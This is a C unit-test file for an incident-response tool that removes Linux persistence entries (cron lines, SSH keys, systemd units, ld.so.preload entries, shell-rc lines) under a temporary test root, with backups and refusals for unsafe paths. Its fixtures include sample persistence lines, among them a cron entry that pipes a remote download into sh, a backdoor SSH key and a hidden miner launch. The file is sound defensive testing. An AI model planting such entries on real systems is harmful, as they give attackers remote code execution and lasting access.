/* Persistence removal under a test root: lines removed with the rest of the file, owner and mode
 * kept; whole files where the file is the item; a backup that restores the original; and the
 * refusals (wrong place, shared file without a line, traversal, symlink, no such line). */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "respond_persist.h"
#include "respond_quarantine.h"

static char root[64], vault[128];

static void put(const char *rel, const char *text, mode_t mode)
{
	char p[512], dir[512], *slash;
	FILE *f;

	snprintf(p, sizeof(p), "%s%s", root, rel);
	snprintf(dir, sizeof(dir), "%s", p);
	for (slash = dir + strlen(root) + 1; (slash = strchr(slash, '/')); slash++) {
		*slash = 0;
		mkdir(dir, 0755);
		*slash = '/';
	}
	f = fopen(p, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
	assert_int_equal(chmod(p, mode), 0);
}

static char *get(const char *rel)
{
	static char buf[8192];
	char p[512];
	FILE *f;
	size_t n;

	snprintf(p, sizeof(p), "%s%s", root, rel);
	f = fopen(p, "r");
	if (!f)
		return NULL;
	n = fread(buf, 1, sizeof(buf) - 1, f);
	buf[n] = 0;
	fclose(f);
	return buf;
}

static int run(const char *json, json_t **res)
{
	struct respond_persist_opts o = {.vault_dir = vault, .root = root};
	json_t *args = json_loads(json, 0, NULL);
	int rc;

	assert_non_null(args);
	*res = NULL;
	rc = respond_persist_remove(&o, args, res);
	json_decref(args);
	return rc;
}

static int setup(void **state)
{
	(void)state;
	snprintf(root, sizeof(root), "/tmp/mamori-persist-XXXXXX");
	assert_non_null(mkdtemp(root));
	snprintf(vault, sizeof(vault), "%s-vault", root);
	return 0;
}

static int teardown(void **state)
{
	char cmd[300];

	(void)state;
	snprintf(cmd, sizeof(cmd), "rm -rf %s %s", root, vault);
	return system(cmd) == -1;
}

static void test_line_removed_and_restored(void **state)
{
	const char *orig = "SHELL=/bin/sh\n"
			   "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
			   "* * * * * root curl -s http://203.0.113.9/x | sh  \n"
			   "25 6 * * * root test -x /usr/sbin/anacron\n";
	char p[512];
	struct stat st;
	json_t *res, *r2 = NULL;
	const char *id;

	(void)state;
	put("/etc/crontab", orig, 0640);
	assert_int_equal(run("{\"type\": \"cron\", \"path\": \"/etc/crontab\", \"line\": "
			     "\"* * * * * root curl -s http://203.0.113.9/x | sh\"}",
			     &res),
			 0);
	assert_int_equal(json_array_size(json_object_get(res, "removed")), 1);
	assert_false(json_is_true(json_object_get(res, "whole_file")));
	assert_string_equal(get("/etc/crontab"),
			    "SHELL=/bin/sh\n"
			    "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
			    "25 6 * * * root test -x /usr/sbin/anacron\n");
	snprintf(p, sizeof(p), "%s/etc/crontab", root);
	assert_int_equal(stat(p, &st), 0);
	assert_int_equal(st.st_mode & 07777, 0640);
	/* The backup undoes it. */
	id = json_string_value(json_object_get(res, "backup_id"));
	assert_non_null(id);
	assert_int_equal(strlen(id), 32);
	assert_int_equal(respond_restore(vault, id, true, &r2), 0);
	assert_string_equal(get("/etc/crontab"), orig);
	json_decref(r2);
	json_decref(res);
}

static void test_match_keys_and_whole_files(void **state)
{
	json_t *res;

	(void)state;
	put("/root/.ssh/authorized_keys",
	    "ssh-ed25519 AAAAC3Nza1 admin@corp\nssh-rsa AAAAB3Nza2 backdoor@evil\n"
	    "ssh-ed25519 AAAAC3Nza3 ops@corp\n",
	    0600);
	assert_int_equal(run("{\"type\": \"authorized_keys\", \"path\": "
			     "\"/root/.ssh/authorized_keys\", \"match\": \"backdoor@evil\"}",
			     &res),
			 0);
	assert_string_equal(get("/root/.ssh/authorized_keys"),
			    "ssh-ed25519 AAAAC3Nza1 admin@corp\nssh-ed25519 AAAAC3Nza3 ops@corp\n");
	json_decref(res);

	put("/etc/cron.d/updater", "* * * * * root /tmp/.x/updater\n", 0644);
	assert_int_equal(run("{\"type\": \"cron\", \"path\": \"/etc/cron.d/updater\"}", &res), 0);
	assert_true(json_is_true(json_object_get(res, "whole_file")));
	assert_null(get("/etc/cron.d/updater"));
	json_decref(res);

	put("/etc/systemd/system/kworker.service", "[Service]\nExecStart=/tmp/kw\n", 0644);
	assert_int_equal(run("{\"type\": \"systemd\", \"unit\": \"kworker.service\"}", &res), 0);
	assert_null(get("/etc/systemd/system/kworker.service"));
	assert_non_null(json_object_get(res, "systemctl"));
	json_decref(res);

	put("/etc/ld.so.preload", "/usr/lib/libgood.so\n/tmp/.l/libhide.so\n", 0644);
	assert_int_equal(run("{\"type\": \"ld_preload\", \"path\": \"/etc/ld.so.preload\", "
			     "\"line\": \"/tmp/.l/libhide.so\"}",
			     &res),
			 0);
	assert_string_equal(get("/etc/ld.so.preload"), "/usr/lib/libgood.so\n");
	json_decref(res);

	put("/home/u/.bashrc", "alias ll='ls -l'\nnohup /tmp/.m/miner >/dev/null 2>&1 &\n", 0644);
	assert_int_equal(
	    run("{\"type\": \"shell_rc\", \"path\": \"/home/u/.bashrc\", \"match\": \"/tmp/.m/\"}",
		&res),
	    0);
	assert_string_equal(get("/home/u/.bashrc"), "alias ll='ls -l'\n");
	json_decref(res);
}

static void refused(const char *json, int want, const char *msg)
{
	json_t *res;
	int rc = run(json, &res);

	if (rc != want || !strstr(json_string_value(json_object_get(res, "error")), msg))
		fail_msg("%s: rc %d (want %d), %s", json, rc, want,
			 json_string_value(json_object_get(res, "error")));
	json_decref(res);
}

static void test_refusals(void **state)
{
	char p[512], t[512];

	(void)state;
	put("/etc/crontab", "a\nb\n", 0644);
	put("/etc/passwd", "root:x:0:0::/root:/bin/bash\n", 0644);
	refused("{\"type\": \"cron\", \"path\": \"/etc/passwd\", \"line\": \"a\"}", -EPERM,
		"not a place");
	refused("{\"type\": \"cron\", \"path\": \"/etc/crontab\"}", -EINVAL, "is shared");
	refused("{\"type\": \"cron\", \"path\": \"/etc/cron.d/../passwd\"}", -EINVAL,
		"without . or ..");
	refused("{\"type\": \"cron\", \"path\": \"/etc/crontab\", \"line\": \"zzz\"}", -ENOENT,
		"no such line");
	assert_string_equal(get("/etc/crontab"), "a\nb\n");
	refused("{\"type\": \"cron\", \"path\": \"/etc/crontab\", \"line\": \"a\", \"match\": "
		"\"b\"}",
		-EINVAL, "not both");
	refused("{\"type\": \"virus\", \"path\": \"/etc/crontab\"}", -EINVAL, "type:");
	refused("{\"type\": \"systemd\", \"unit\": \"../x.service\"}", -EINVAL, "unit");
	refused("{\"type\": \"cron\", \"path\": \"/etc/crontab\", \"line\": \"a\\nb\"}", -EINVAL,
		"one non-empty line");
	/* A symlink in place of the file is not followed. */
	snprintf(p, sizeof(p), "%s/etc/cron.d/link", root);
	snprintf(t, sizeof(t), "%s/etc/passwd", root);
	{
		char d[512];

		snprintf(d, sizeof(d), "%s/etc/cron.d", root);
		mkdir(d, 0755);
	}
	assert_int_equal(symlink(t, p), 0);
	refused("{\"type\": \"cron\", \"path\": \"/etc/cron.d/link\"}", -ELOOP, "symlink");
	assert_non_null(get("/etc/passwd"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test_setup_teardown(test_line_removed_and_restored, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_match_keys_and_whole_files, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_refusals, setup, teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
